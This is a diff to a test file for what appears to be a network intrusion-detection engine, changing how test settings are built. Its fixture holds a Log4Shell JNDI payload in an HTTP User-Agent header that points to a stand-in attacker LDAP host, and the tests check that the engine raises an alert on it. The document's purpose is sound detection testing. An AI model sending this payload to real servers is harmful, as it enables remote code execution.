@@ -20,6 +20,7 @@ from engine.sources.pcapfile import PcapFile
 from engine.store.database import open_store
 from engine.stored import StoredInputs
 from engine.types import Alert, Event, Fault, Frame, Incident, Proposal, ProposalState, Verdict
+from tests.engine.bench import settings
 from tests.factories import conversation, pcap_file
 
 JNDI = b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"
@@ -44,7 +45,7 @@ def _plan(tmp_path: Path, files: Iterable[Path], **changes: object) -> Plan:
         "source": "test.pcap",
         "title": "test.pcap",
         "open_readers": [partial(_open, file) for file in files],
-        "settings": Settings(),
+        "settings": settings(),
         "database": tmp_path / "aegis.db",
         "knowledge": KNOWLEDGE[-1],
         "lockstep": True,
@@ -66,7 +67,7 @@ def _attack(folder: Path, frames: Iterable[Frame] | None = None) -> Path:
 
 
 async def test_an_exploit_becomes_an_alert_an_incident_a_verdict_and_a_proposal(tmp_path: Path) -> None:
-    _, events = await _run(_plan(tmp_path, [_attack(tmp_path)]))
+    _, events = await _run(_plan(tmp_path, [_attack(tmp_path)], settings=Settings()))
     alerts = [event for event in events if isinstance(event, Alert)]
     assert "log4shell.jndi" in {alert.detection.label for alert in alerts}
     (verdict,) = [event for event in events if isinstance(event, Verdict)]
